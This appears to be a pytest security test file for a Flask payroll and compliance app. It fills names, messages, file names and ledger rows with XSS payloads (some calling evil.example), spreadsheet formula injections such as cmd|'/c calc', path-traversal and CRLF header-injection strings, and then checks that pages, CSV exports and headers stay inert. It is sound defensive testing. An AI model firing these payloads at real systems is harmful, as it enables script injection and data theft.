"""Whatever stands in a name, a letter or a message is text on every page and in every table."""

import csv
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from io import BytesIO, StringIO
from itertools import cycle, islice
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from app.file_names import clean_file_name
from app.records import tables
from app.shown.safe_csv import plain_cell

SignIn = Callable[[str], FlaskClient]

_SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script/src=//evil.example/pwned.js>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()>",
    "<a href=javascript:pwned()>x</a>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<math><mtext onclick=pwned()>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<base href=//evil.example/pwned>",
    "<form action=//evil.example/pwned><button>",
    "<meta http-equiv=refresh content=0;url=//evil.example/pwned>",
    "<link rel=stylesheet href=//evil.example/pwned.css>",
    "<style>@import '//evil.example/pwned';</style>",
    "<marquee onstart=pwned()>",
    "<video><source onerror=pwned()>",
    "<template><script>pwned()</script></template>",
    "<!--><script>pwned()</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "{{ 7*7 }}pwned",
    "{% raw %}pwned",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "{{config}}",
)
_BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "--></style></script>")
XSS = [f"{out}{script}" for out in _BREAKS for script in _SCRIPTS]
FORMULAS = [
    f"{start}{body}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")
    for body in ("cmd|'/c calc'!A1", 'HYPERLINK("//evil.example")', "1+1", "SUM(A1:A9)")
]
WAYS = [
    f"{way}{name}"
    for way in (
        "../",
        "..\\",
        "/",
        "C:\\",
        "....//",
        "%2e%2e/",
        "\\\\host\\",
        "a\r\n",
        "a\x00",
        "\u202e",
    )
    for name in ("etc/passwd", "x.pdf", "gpj.exe", "x\r\nSet-Cookie: pwned=1")
]


@dataclass
class _Seen(HTMLParser):
    """What a page holds that could act: scripts, handlers, and addresses that are code."""

    acting: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        is_data = given.get("type") == "application/json"
        if tag == "script" and not is_data and not given.get("src", "").startswith("/static/"):
            self.acting.append("script")
        if tag in {"iframe", "object", "embed", "base", "style", "math", "marquee", "template"}:
            self.acting.append(tag)
        self.acting += [f"{tag} {name}" for name in given if name.startswith("on")]
        for name in ("href", "src", "action", "data", "content"):
            address = given.get(name, "").strip().lower()
            if address.startswith(("javascript:", "//", "vbscript:")) or "evil.example" in address:
                self.acting.append(f"{tag} {name}={address}")


@pytest.fixture
def pages(scene: Any) -> dict[str, list[str]]:
    """Pages of things whose every text is made of payloads, by who looks at them."""
    source = cycle(XSS + FORMULAS)

    def bad(count: int = 24) -> str:
        return " ".join(islice(source, count))

    line = {
        "date": "2026-03-02",
        "production": bad(),
        "classification": bad(),
        "day_verdict": "confirmed",
        "status": "counted",
        "because": bad(),
        "rule": bad(),
        "rule_id": "ier-80-work-days",
        "rule_version": "2026-01-01",
        "payroll_line": None,
        "fringe_line": None,
        "record": 0,
        "claimed_by": [
            {"file": bad(), "page": 1, "box": [72.0, 300.0, 200.0, 314.0], "text": bad()}
        ],
        "paid_by": [{"file": bad(), "row": 1}],
        "remitted_by": [],
    }
    finding = {
        "code": "days-not-in-payroll",
        "severity": "warning",
        "message": bad(),
        "dates": ["2026-03-02"],
    }
    document = scene.document("a1", ledger=[line], findings=[finding])
    broken = scene.document("a2", error=("encrypted-file", bad()), ledger=[], with_picture=False)
    scene.credit(document, PRODUCTION)
    now, person = scene.stores.now(), scene.professionals["avery"]
    with scene.stores.sessions.begin() as session:
        for row in session.scalars(select(tables.Document)):
            row.file_name = clean_file_name(bad(3), ".pdf")
        read = session.scalars(select(tables.Result).where(tables.Result.stage == "read")).all()
        for result in read:
            result.payload = _poisoned(result.payload, bad)
        session.get_one(tables.Professional, person).name = bad()
        for account in session.scalars(select(tables.Account)):
            account.name = bad()
        session.add(_message(person, now, bad))
        session.add(_import(scene, now, bad))
    record = scene.roster_record
    return {
        "avery": [
            "/",
            f"/documents/{document}",
            f"/documents/{broken}",
            f"/documents/{document}/ledger",
            f"/roster/{record}",
            f"/roster/{record}/ledger",
            "/messages",
            "/account",
        ],
        "robin": [
            "/desk",
            f"/desk/{document}",
            f"/desk/{broken}",
            "/roster",
            "/work-records",
            f"/work-records/{'d' * 32}",
            f"/people/{'avery'.ljust(32, '0')}",
        ],
        "alex": ["/accounts", "/compliance-reports"],
        "pat": ["/partner"],
    }


PRODUCTION = '"><script>pwned()</script>'


def _poisoned(payload: Any, bad: Callable[..., str]) -> Any:
    if isinstance(payload, dict):
        changed = {key: _poisoned(each, bad) for key, each in payload.items()}
        if isinstance(changed.get("value"), str) and "evidence" in changed:
            changed["value"] = bad(4)
        if isinstance(changed.get("text"), str):
            changed["text"] = bad(4)
        return changed
    return [_poisoned(each, bad) for each in payload] if isinstance(payload, list) else payload


def _message(person: int, now: Any, bad: Callable[..., str]) -> tables.Message:
    return tables.Message(
        public_id="e" * 32,
        professional_id=person,
        kind="standing",
        event_key="k",
        about_on=now.date(),
        subject=bad(),
        text=bad(),
        written_at=now,
        delivery="waiting",
    )


def _import(scene: Any, now: Any, bad: Callable[..., str]) -> tables.WorkRecordImport:
    sha256 = scene.stores.sessions().scalars(select(tables.StoredFile.sha256)).first()
    return tables.WorkRecordImport(
        public_id="d" * 32,
        kind="payroll",
        sha256=sha256,
        file_name=bad(2),
        payroll_company=bad(),
        rows_read=2,
        rows_rejected=1,
        rejections=[{"row": 1, "message": bad()}],
        imported_by=scene.accounts["pat"],
        imported_at=now,
        state="previewed",
        choices={},
        preview={"notes": [bad()], "unknown_types": {bad(2): 1}},
        problem=bad(),
    )


def test_there_are_payloads_enough() -> None:
    assert len(set(XSS + FORMULAS + WAYS)) >= 300


def test_no_page_holds_anything_that_acts(
    app: Flask, sign_in: SignIn, pages: dict[str, list[str]]
) -> None:
    acting, shown = [], 0
    for name, addresses in pages.items():
        client = sign_in(name)
        for address in addresses:
            answer = client.get(address)
            assert answer.status_code == 200, (address, answer.status_code)
            seen = _Seen()
            seen.feed(answer.text)
            acting += [(address, each) for each in seen.acting]
            shown += answer.text.count("pwned")

    assert acting == []
    assert shown > 500


def test_no_cell_of_a_ledger_is_a_formula(
    app: Flask, sign_in: SignIn, pages: dict[str, list[str]], scene: Any
) -> None:
    text = sign_in("avery").get(f"/roster/{scene.roster_record}/ledger.csv").text

    cells = [cell for row in csv.reader(StringIO(text)) for cell in row]

    assert len(cells) > 16
    assert [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))] == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_looks_like_a_formula_is_kept_as_text(formula: str) -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = plain_cell(formula)  # type: ignore[index]
    kept = BytesIO()
    book.save(kept)

    cell = openpyxl.load_workbook(kept).active["A1"]  # type: ignore[index]

    assert cell.data_type == "s"
    assert "\n" not in plain_cell(formula)


@pytest.mark.parametrize("way", [*WAYS, *XSS[:30]])
def test_a_file_name_holds_no_way_and_no_line_break(way: str) -> None:
    name = clean_file_name(way, ".pdf")

    assert not set(name) & {"/", "\\", "\r", "\n", "\x00", "\u202e"}
    assert 0 < len(name) <= 100


@pytest.mark.parametrize(
    "value", ["x\r\nSet-Cookie: pwned=1", "x\n\n<script>", "x\x00y", "\u2028x"]
)
def test_no_header_takes_a_line_break(app: Flask, sign_in: SignIn, value: str) -> None:
    client = sign_in("avery")
    page = client.get("/sign-in", follow_redirects=True).text
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    form = {"csrf_token": token, "next": f"/{value}", "email": value, "password": "x"}

    answers = [client.post("/sign-in", data=form), client.get("/sign-in", query_string=form)]

    assert all("pwned" not in str(dict(answer.headers)) for answer in answers)
